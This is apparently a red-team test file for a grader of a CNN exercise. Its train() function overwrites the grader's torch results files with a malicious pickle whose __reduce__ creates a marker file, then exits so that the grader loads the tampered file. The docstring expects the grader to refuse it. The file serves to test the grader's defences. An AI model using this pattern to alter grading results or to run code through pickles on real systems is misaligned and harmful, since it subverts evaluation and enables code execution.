"""Attack: replace the child's own results file with a pickle that runs code when it is loaded.

In train() (the child has saved its results several times by then), look in the cwd, the folders
given on the command line and up to two parents of each for a file that torch.load(weights_only=True)
reads as a dict with "phase" and "errors" (this grader's results). Overwrite each with a pickle whose
__reduce__ calls open(MARKER, "w"), then exit at once so that the child saves nothing after it.
Expected: the parent refuses to unpickle it ("results file"), the marker never appears; no mark. If no
results file is found, FileNotFoundError. Safe unsandboxed: only this grader's results files are touched.
"""
import os
import sys

import torch
from torch import nn

MARKER = "/tmp/cnn-grader-pwned-attack_malicious_pickle"


class Payload:
    def __reduce__(self):
        return (open, (MARKER, "w"))


def results_files():
    folders = []
    for start in [os.getcwd(), *(a for a in sys.argv[1:] if os.path.isdir(a))]:
        folder = os.path.abspath(start)
        for _ in range(3):
            folders.append(folder)
            folder = os.path.dirname(folder)
    for folder in dict.fromkeys(folders):
        try:
            names = sorted(os.listdir(folder))[:500]
        except OSError:
            continue
        for name in names:
            path = os.path.join(folder, name)
            try:
                if not (os.path.isfile(path) and os.access(path, os.W_OK) and os.path.getsize(path) < 200e6):
                    continue
                with open(path, "rb") as fh:
                    if fh.read(4) != b"PK\x03\x04":  # torch.save's zip format
                        continue
                data = torch.load(path, weights_only=True, map_location="cpu")
            except Exception:
                continue
            if isinstance(data, dict) and "phase" in data and "errors" in data:
                yield path


def output_shape(in_shape, layer):
    raise NotImplementedError("attack file")


def build_model():
    return nn.Sequential(nn.Flatten(), nn.Linear(784, 10))


def train(model, train_set, valid_set, *, iterations=2000, batch_size=50, lr=1e-4, log_every=100):
    found = list(results_files())
    if not found:
        raise FileNotFoundError("attack: no results file within reach")
    for path in found:
        torch.save({"phase": "done", "errors": {}, "payload": Payload()}, path)
    os._exit(0)


def top_patches(model, images, filters, k=12):
    raise NotImplementedError("attack file")
